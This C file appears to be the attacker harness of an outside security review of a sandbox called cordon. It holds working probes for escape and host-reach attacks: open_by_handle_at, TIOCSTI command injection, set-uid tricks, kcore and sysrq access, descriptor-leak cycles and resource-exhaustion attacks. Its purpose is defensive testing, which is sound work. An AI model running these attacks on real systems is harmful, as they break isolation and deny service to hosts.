/*
 * Round 3's attacker (an outside review): one static binary, one attack per
 * argv[1], run inside a real cordon sandbox by round3.test.js and by the
 * reproductions in findings/. Same convention as probe.c:
 *     RESULT <attack> <blocked|open> <detail>
 * "open" means the attack worked. Each attack can also be run directly on
 * the host (outside any sandbox) to see it report "open" where the host
 * allows it: that is what makes the probes able to fail.
 *
 * Compiled at test time: cc -static -O1 -o round3 round3.c
 * (also by host-reach.test.js, for issue 18's probes at the end)
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/aio_abi.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/fanotify.h>
#include <sys/file.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/klog.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sched.h>
#include <sys/quota.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/timerfd.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static int report(const char *attack, int blocked, const char *detail) {
    printf("RESULT %s %s %s\n", attack, blocked ? "blocked" : "open", detail);
    fflush(stdout);
    return 0;
}

static int errno_report(const char *attack, long rc) {
    char detail[96];
    snprintf(detail, sizeof detail, "%s", rc < 0 ? strerror(errno) : "succeeded");
    return report(attack, rc < 0, detail);
}

/* "Shocker": a file handle of / opened by handle reaches files by inode, past any bind mount. */
static int open_by_handle(void) {
    struct { struct file_handle fh; unsigned char bytes[128]; } h;
    h.fh.handle_bytes = 128;
    int mount_id;
    if (syscall(SYS_name_to_handle_at, AT_FDCWD, "/usr", &h.fh, &mount_id, 0) < 0)
        return errno_report("open-by-handle", -1);
    int mfd = open("/usr", O_RDONLY | O_DIRECTORY);
    return errno_report("open-by-handle", syscall(SYS_open_by_handle_at, mfd, &h.fh, O_RDONLY));
}

/* TIOCSTI: push a command into the provider's terminal through /dev/tty. */
static int tiocsti(void) {
    int fd = open("/dev/tty", O_RDWR | O_NOCTTY);
    if (fd < 0) return errno_report("tiocsti", -1);
    char c = '#';
    return errno_report("tiocsti", ioctl(fd, TIOCSTI, &c));
}

/* A hard link to a host set-uid binary, made in a host workspace: it would keep its set-uid bit there. */
static int hardlink_setuid(const char *target, const char *link) {
    return errno_report("hardlink-setuid", linkat(AT_FDCWD, target, AT_FDCWD, link, 0));
}

/* Alarm timers wake the host from suspend (CAP_WAKE_ALARM). */
static int alarm_timer(void) {
    return errno_report("alarm-timer", timerfd_create(CLOCK_BOOTTIME_ALARM, 0));
}

/* The kernel log: host and other tenants' messages. */
static int klog(void) {
    char buf[256];
    return errno_report("syslog", klogctl(3 /* READ_ALL */, buf, sizeof buf));
}

/* Host physical memory through /proc/kcore (where /dev/core, which bwrap makes, points). */
static int kcore(void) {
    int fd = open("/proc/kcore", O_RDONLY);
    if (fd < 0) return errno_report("kcore", -1);
    char buf[64];
    return errno_report("kcore", read(fd, buf, sizeof buf));
}

/* Host-wide knobs through /proc/sys and /proc/sysrq-trigger. */
static int proc_write(const char *attack, const char *path, const char *value) {
    int fd = open(path, O_WRONLY);
    if (fd < 0) return errno_report(attack, -1);
    return errno_report(attack, write(fd, value, strlen(value)));
}

/* PR_SET_MM rewrites what /proc shows of the process (and the observer reads). */
static int set_mm(void) {
    return errno_report("pr-set-mm", prctl(PR_SET_MM, PR_SET_MM_ARG_START, 0x1000, 0, 0));
}

/* Disk quotas of the host's filesystems. */
static int quota(void) {
    struct dqblk q;
    return errno_report("quotactl", quotactl(QCMD(Q_GETQUOTA, USRQUOTA), "/dev/vda", 0, (void *)&q));
}

/* fanotify watches a whole mount or filesystem, host writes included. */
static int fanotify(void) {
    return errno_report("fanotify", fanotify_init(FAN_CLASS_NOTIF, O_RDONLY));
}

/* A filter of one's own that allows everything does not lift the sandbox's. */
static int stacked_allow(void) {
    struct sock_filter allow[] = {BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
    struct sock_fprog prog = {.len = 1, .filter = allow};
    if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog) < 0) return errno_report("stacked-allow", -1);
    return errno_report("stacked-allow", socket(AF_INET, SOCK_STREAM, 0));
}

/* set-uid through a memfd, then exec'd: nosuid does not cover an anonymous file. */
static int memfd_setuid(void) {
    int fd = syscall(SYS_memfd_create, "x", 0);
    if (fd < 0) return errno_report("memfd-setuid", -1);
    return errno_report("memfd-setuid", fchmod(fd, 04755));
}

/*
 * Sends the sandbox's descriptors (stdout, fd 3 itself, a pipe, a file of
 * /tmp) over fd 3 as SCM_RIGHTS, `rounds` times, then exits: a provider that
 * installed them would leak descriptors and keep the sandbox's streams (and
 * its tmpfs) alive; a queue that kept them would hold wait() forever.
 */
static int pass_fds(int rounds) {
    int p[2];
    if (pipe(p) < 0) return errno_report("pass-fds", -1);
    int tmp = open("/tmp/held", O_RDWR | O_CREAT, 0600);
    int fds[5] = {1, 2, 3, p[1], tmp};
    char cbuf[CMSG_SPACE(sizeof fds)];
    int sent = 0;
    for (int i = 0; i < rounds; i += 1) {
        char byte = '\n';
        struct iovec iov = {.iov_base = &byte, .iov_len = 1};
        struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof cbuf};
        struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
        c->cmsg_level = SOL_SOCKET;
        c->cmsg_type = SCM_RIGHTS;
        c->cmsg_len = CMSG_LEN(sizeof fds);
        memcpy(CMSG_DATA(c), fds, sizeof fds);
        if (sendmsg(3, &msg, MSG_DONTWAIT) < 0) break;
        sent += 1;
    }
    int refused = sent < rounds ? errno : 0;
    char detail[96];
    snprintf(detail, sizeof detail, "sent %d%s%s", sent, refused ? ", then " : "", refused ? strerror(refused) : "");
    return report("pass-fds", 0, detail); /* judged by the provider */
}

/* MSG_OOB on the protocol socket: the provider's reader must neither stall nor lose the stream. */
static int oob(void) {
    const char *before = "{\"before\":1}\n";
    write(3, before, strlen(before));
    long rc = send(3, "!", 1, MSG_OOB);
    const char *after = "{\"after\":1}\n";
    write(3, after, strlen(after));
    char detail[64];
    snprintf(detail, sizeof detail, "oob send: %s", rc < 0 ? strerror(errno) : "sent");
    return report("oob", 0, detail); /* judged by the provider */
}

/*
 * A child subreaper that adopts a setsid'd, SIGTERM-immune daemon, then
 * the program exits: the daemon must not outlive the run.
 */
static int subreaper_daemon(void) {
    prctl(PR_SET_CHILD_SUBREAPER, 1);
    pid_t child = fork();
    if (child == 0) {
        setsid();
        if (fork() == 0) {
            signal(SIGTERM, SIG_IGN);
            signal(SIGHUP, SIG_IGN);
            report("subreaper-daemon", 0, "daemon running");
            for (;;) pause();
        }
        _exit(0);
    }
    waitpid(child, NULL, 0);
    usleep(200000);
    return 0;
}

/*
 * The host-wide AIO context count (fs.aio-max-nr): one io_setup takes as
 * much of it as it can, and the process then waits. "open" when it got at
 * least `want` events of the host's quota.
 */
static int aio_hog(long want) {
    long got = 0;
    int first_errno = 0;
    for (long n = 1 << 20; n >= 1; n /= 2) {
        for (;;) {
            aio_context_t ctx = 0;
            if (syscall(SYS_io_setup, n, &ctx) < 0) {
                if (!first_errno) first_errno = errno;
                break;
            }
            got += n;
        }
    }
    char detail[160];
    snprintf(detail, sizeof detail, "held %ld aio events (io_setup then: %s)", got, strerror(first_errno));
    report("aio-hog", got < want, detail);
    for (int i = 0; i < 600; i += 1) sleep(1);
    return 0;
}

/*
 * Kernel memory pinned in AF_UNIX socket buffers: `pairs` socketpairs,
 * each filled until it would block, held by `procs` processes. Prints the
 * bytes queued; the test measures host memory and the cgroup's charge.
 */
static int unix_pin(int procs, int pairs) {
    for (int p = 0; p < procs; p += 1) {
        if (fork() == 0) {
            static char chunk[65536];
            long queued = 0;
            for (int i = 0; i < pairs; i += 1) {
                int sv[2];
                if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) < 0) break;
                for (int end = 0; end < 2; end += 1) {
                    int size = 1 << 30; /* clamped to 2 × net.core.wmem_max */
                    setsockopt(sv[end], SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
                    fcntl(sv[end], F_SETFL, O_NONBLOCK);
                    for (;;) {
                        long n = write(sv[end], chunk, sizeof chunk);
                        if (n <= 0) break;
                        queued += n;
                    }
                }
            }
            printf("PINNED %d %ld\n", p, queued);
            fflush(stdout);
            for (int i = 0; i < 600; i += 1) sleep(1);
            _exit(0);
        }
    }
    report("unix-pin", 0, "holding");
    for (int i = 0; i < 600; i += 1) sleep(1);
    return 0;
}


/*
 * Locks its own executable (staged by the launcher and shared by every run
 * of the same binary) every way an unprivileged process can: flock, a POSIX
 * read lock, an OFD lock and a read lease; then holds them. A launcher that
 * waited on any of them would hang the next run of the same program.
 */
static int lock_exe(const char *path) {
    int fd = open(path, O_RDONLY);
    if (fd < 0) return errno_report("lock-exe", -1);
    char detail[160];
    struct flock rd = {.l_type = F_RDLCK, .l_whence = SEEK_SET};
    int fd2 = open(path, O_RDONLY);
    int f = flock(fd, LOCK_EX | LOCK_NB);
    int p = fcntl(fd, F_SETLK, &rd);
    int o = fcntl(fd2, F_OFD_SETLK, &rd);
    int fd3 = open(path, O_RDONLY);
    int l = fcntl(fd3, F_SETLEASE, F_RDLCK);
    snprintf(detail, sizeof detail, "flock=%d posix=%d ofd=%d lease=%s", f, p, o, l < 0 ? strerror(errno) : "held");
    report("lock-exe", 0, detail);
    for (int i = 0; i < 600; i += 1) sleep(1);
    return 0;
}

/* inotify on host files bound into the sandbox: does host activity show? Reports each event's name. */
static int watch_host(const char *dir, int seconds) {
    int fd = inotify_init1(IN_NONBLOCK);
    if (fd < 0) return errno_report("watch-host", -1);
    if (inotify_add_watch(fd, dir, IN_OPEN | IN_ACCESS) < 0) return errno_report("watch-host", -1);
    report("watch-host", 0, "watching");
    char buf[4096] __attribute__((aligned(8)));
    for (int i = 0; i < seconds * 20; i += 1) {
        long n = read(fd, buf, sizeof buf);
        for (long off = 0; n > 0 && off < n;) {
            struct inotify_event *e = (void *)(buf + off);
            if (e->len) printf("EVENT %x %s\n", e->mask, e->name);
            off += sizeof *e + e->len;
        }
        fflush(stdout);
        usleep(50000);
    }
    return 0;
}


/*
 * Memory held by the kernel for the process but mapped nowhere, so outside
 * RLIMIT_AS: `count` memfds of `mib` MiB each (each within RLIMIT_FSIZE),
 * written through and then only held by their descriptors; and SysV shared
 * memory segments, touched and detached. Prints the bytes held, then holds.
 */
static int unmapped_memory(const char *kind, int count, int mib) {
    static char chunk[1 << 20];
    memset(chunk, 0x5a, sizeof chunk);
    long held = 0;
    int failed = 0;
    for (int i = 0; i < count; i += 1) {
        if (!strcmp(kind, "memfd")) {
            int fd = syscall(SYS_memfd_create, "hold", 0);
            if (fd < 0) { failed = errno; break; }
            int m = 0;
            for (; m < mib; m += 1) if (write(fd, chunk, sizeof chunk) != (long)sizeof chunk) break;
            held += (long)m << 20;
            if (m < mib) break;
        } else {
            int id = shmget(IPC_PRIVATE, (size_t)mib << 20, IPC_CREAT | 0600);
            if (id < 0) { failed = errno; break; }
            char *p = shmat(id, NULL, 0);
            if (p == (void *)-1) { failed = errno; break; }
            for (long off = 0; off < ((long)mib << 20); off += 4096) p[off] = 1;
            shmdt(p);
            held += (long)mib << 20;
        }
    }
    printf("HELD %ld\n", held);
    char detail[160];
    snprintf(detail, sizeof detail, "%s held %ld then %s", kind, held, failed ? strerror(failed) : "nothing failed");
    /* "open" once anything is held: with no cgroup nothing charges it. */
    report("unmapped-memory", held == 0, detail);
    for (int i = 0; i < 600; i += 1) sleep(1);
    return 0;
}


/*
 * Hostile code-bridge-v1 runner (Code Mode starts it with --flags, so
 * argv[1] begins with "--"): reads the execute frame, answers ready, then
 * shuts its read side so every write of the host to fd 3 fails with EPIPE,
 * and calls the tool named in the code. A host that let that write's error
 * escape would crash the provider. Then sends a terminal frame.
 */
static int hostile_runner(void) {
    static char frame[1 << 20];
    long n = 0;
    while (n < (long)sizeof frame - 1) {
        long r = read(3, frame + n, sizeof frame - 1 - n);
        if (r <= 0) break;
        n += r;
        frame[n] = 0;
        if (strchr(frame, '\n')) break;
    }
    char id[160] = "";
    char *at = strstr(frame, "\"executionId\":\"");
    if (at) sscanf(at + 15, "%159[^\"]", id);
    char out[1024];
    int len = snprintf(out, sizeof out,
        "{\"effectiveLimits\":{\"maxResultBytes\":1024,\"maxToolCalls\":1,\"timeoutMs\":1000},\"executionId\":\"%s\",\"runnerVersion\":\"round3\",\"type\":\"ready\",\"version\":\"code-bridge-v1\"}\n", id);
    write(3, out, len);
    shutdown(3, SHUT_RD);
    len = snprintf(out, sizeof out,
        "{\"arguments\":{},\"executionId\":\"%s\",\"id\":1,\"name\":\"echo\",\"type\":\"tool.call\",\"version\":\"code-bridge-v1\"}\n", id);
    write(3, out, len);
    usleep(300000);
    len = snprintf(out, sizeof out,
        "{\"executionId\":\"%s\",\"metrics\":{\"elapsedMs\":1,\"toolCalls\":1},\"ok\":true,\"result\":\"epipe survived\",\"type\":\"execution.result\",\"version\":\"code-bridge-v1\"}\n", id);
    write(3, out, len);
    return 0;
}


/*
 * Real-time scheduling: SCHED_FIFO needs CAP_SYS_NICE or an RLIMIT_RTPRIO
 * above 0, which the sandbox would inherit from its provider if the
 * launcher left that limit alone. A SCHED_FIFO busy loop starves every
 * normal process of its CPU (the provider's event loop included).
 * Reports the rlimits it inherited, then tries priority 1 (and gives it up).
 */
static int rt_sched(void) {
    struct rlimit rt, nice, memlock, rttime;
    getrlimit(RLIMIT_RTPRIO, &rt);
    getrlimit(RLIMIT_NICE, &nice);
    getrlimit(RLIMIT_MEMLOCK, &memlock);
    getrlimit(RLIMIT_RTTIME, &rttime);
    printf("RLIMITS rtprio=%ld nice=%ld memlock=%ld rttime=%ld\n", (long)rt.rlim_cur, (long)nice.rlim_cur, (long)memlock.rlim_cur, (long)rttime.rlim_cur);
    struct sched_param param = {.sched_priority = 1};
    long rc = sched_setscheduler(0, SCHED_FIFO, &param);
    int saved = errno;
    struct sched_param zero = {.sched_priority = 0};
    sched_setscheduler(0, SCHED_OTHER, &zero);
    errno = saved;
    return errno_report("rt-sched", rc);
}


static int send_fd(int via, int fd) {
    char byte = 0;
    struct iovec iov = {.iov_base = &byte, .iov_len = 1};
    char cbuf[CMSG_SPACE(sizeof fd)];
    struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof cbuf};
    struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SCM_RIGHTS;
    c->cmsg_len = CMSG_LEN(sizeof fd);
    memcpy(CMSG_DATA(c), &fd, sizeof fd);
    return sendmsg(via, &msg, 0);
}

/*
 * Hides the sandbox's stdout/stderr pipe and fd 3 in an unreachable
 * in-flight SCM_RIGHTS cycle (a socket queued in its own receive queue,
 * carrying them), then exits: only the kernel's unix garbage collector
 * can close them, and until it does the provider never sees EOF.
 */
static int inflight_cycle(void) {
    int sv[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) < 0) return errno_report("inflight-cycle", -1);
    int rc = send_fd(sv[0], 1) | send_fd(sv[0], 2) | send_fd(sv[0], 3) | send_fd(sv[0], sv[1]) | send_fd(sv[1], sv[0]);
    report("inflight-cycle", 0, rc < 0 ? strerror(errno) : "hidden");
    close(sv[0]);
    close(sv[1]);
    close(3);
    close(2);
    close(1);
    return 0;
}

/*
 * Issue 18 (items A3, B4, B10): kernel objects a sandbox shares with the
 * host — file leases and dnotify on bound files, signal owners, terminal
 * input, the host-wide pty quota — and the raw mknod(2) call; run by
 * host-reach.test.js. Each reports "open" in a sandbox whose filter lacks
 * the rule (or whose /dev/pts/ptmx is not covered) the test names.
 */
/* A read lease on a bound file the sandbox owns, held with SIGIO ignored:
 * every host open for writing then waits out fs.lease-break-time. */
static int lease(const char *path, int hold_seconds) {
    int fd = open(path, O_RDONLY);
    if (fd < 0) return errno_report("lease", -1);
    signal(SIGIO, SIG_IGN);
    long rc = fcntl(fd, F_SETLEASE, F_RDLCK);
    errno_report("lease", rc);
    if (rc == 0) sleep(hold_seconds);
    return 0;
}

/* dnotify: a live feed of changes in a bound host directory. */
static int dnotify(const char *dir) {
    int fd = open(dir, O_RDONLY | O_DIRECTORY);
    if (fd < 0) return errno_report("dnotify", -1);
    return errno_report("dnotify", fcntl(fd, F_NOTIFY, DN_CREATE | DN_MODIFY | DN_MULTISHOT));
}

/* F_SETOWN naming a host pid (the provider's): SIGIO/SIGURG to it. Allowed
 * by the filter; the pid must name nothing in the sandbox's namespace. */
static int setown(pid_t host_pid) {
    int fds[2];
    if (pipe(fds) < 0) return errno_report("setown", -1);
    return errno_report("setown", fcntl(fds[0], F_SETOWN, host_pid));
}

/* TIOCSTI on the first descriptor that is a terminal, else on fd 0: the
 * filter's EPERM, not the terminal layer's ENOTTY, shows the rule. */
static int tiocsti_filter(void) {
    char c = '#';
    return errno_report("tiocsti", ioctl(0, TIOCSTI, &c));
}

/* Ptys: each one counts against the host-wide kernel.pty.max. */
static int ptys(int want, int hold_seconds) {
    int opened = 0;
    const char *paths[] = { "/dev/ptmx", "/dev/pts/ptmx" };
    int last_errno = 0;
    for (int i = 0; i < want; i++) {
        int fd = open(paths[i % 2], O_RDWR | O_NOCTTY);
        if (fd < 0) { last_errno = errno; continue; }
        opened++;
    }
    char detail[96];
    snprintf(detail, sizeof detail, "opened %d of %d (%s)", opened, want, opened < want ? strerror(last_errno) : "none refused");
    report("ptys", opened == 0, detail);
    if (opened > 0) sleep(hold_seconds);
    return 0;
}


/* The raw mknod(2) (glibc's mknod() calls mknodat): a set-uid regular file. */
static int raw_mknod(const char *path) {
    return errno_report("raw-mknod", syscall(SYS_mknod, path, S_IFREG | 04755, 0));
}

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    const char *cmd = argv[1];
    if (!strncmp(cmd, "--", 2)) return hostile_runner();
    if (!strcmp(cmd, "open-by-handle")) return open_by_handle();
    if (!strcmp(cmd, "tiocsti")) return tiocsti();
    if (!strcmp(cmd, "hardlink-setuid") && argc == 4) return hardlink_setuid(argv[2], argv[3]);
    if (!strcmp(cmd, "alarm-timer")) return alarm_timer();
    if (!strcmp(cmd, "syslog")) return klog();
    if (!strcmp(cmd, "kcore")) return kcore();
    if (!strcmp(cmd, "sysctl-write")) return proc_write("sysctl-write", "/proc/sys/kernel/domainname", "pwned");
    if (!strcmp(cmd, "sysrq")) return proc_write("sysrq", "/proc/sysrq-trigger", "h");
    if (!strcmp(cmd, "pr-set-mm")) return set_mm();
    if (!strcmp(cmd, "quotactl")) return quota();
    if (!strcmp(cmd, "fanotify")) return fanotify();
    if (!strcmp(cmd, "stacked-allow")) return stacked_allow();
    if (!strcmp(cmd, "memfd-setuid")) return memfd_setuid();
    if (!strcmp(cmd, "pass-fds") && argc == 3) return pass_fds(atoi(argv[2]));
    if (!strcmp(cmd, "oob")) return oob();
    if (!strcmp(cmd, "subreaper-daemon")) return subreaper_daemon();
    if (!strcmp(cmd, "aio-hog") && argc == 3) return aio_hog(atol(argv[2]));
    if (!strcmp(cmd, "unix-pin") && argc == 4) return unix_pin(atoi(argv[2]), atoi(argv[3]));
    if (!strcmp(cmd, "lock-exe") && argc == 3) return lock_exe(argv[2]);
    if (!strcmp(cmd, "watch-host") && argc == 4) return watch_host(argv[2], atoi(argv[3]));
    if (!strcmp(cmd, "unmapped-memory") && argc == 5) return unmapped_memory(argv[2], atoi(argv[3]), atoi(argv[4]));
    if (!strcmp(cmd, "rt-sched")) return rt_sched();
    if (!strcmp(cmd, "inflight-cycle")) return inflight_cycle();
    if (!strcmp(cmd, "lease") && argc == 4) return lease(argv[2], atoi(argv[3]));
    if (!strcmp(cmd, "dnotify") && argc == 3) return dnotify(argv[2]);
    if (!strcmp(cmd, "setown") && argc == 3) return setown(atoi(argv[2]));
    if (!strcmp(cmd, "tiocsti-filter")) return tiocsti_filter();
    if (!strcmp(cmd, "ptys") && argc == 4) return ptys(atoi(argv[2]), atoi(argv[3]));
    if (!strcmp(cmd, "raw-mknod") && argc == 3) return raw_mknod(argv[2]);
    fprintf(stderr, "unknown attack %s\n", cmd);
    return 2;
}
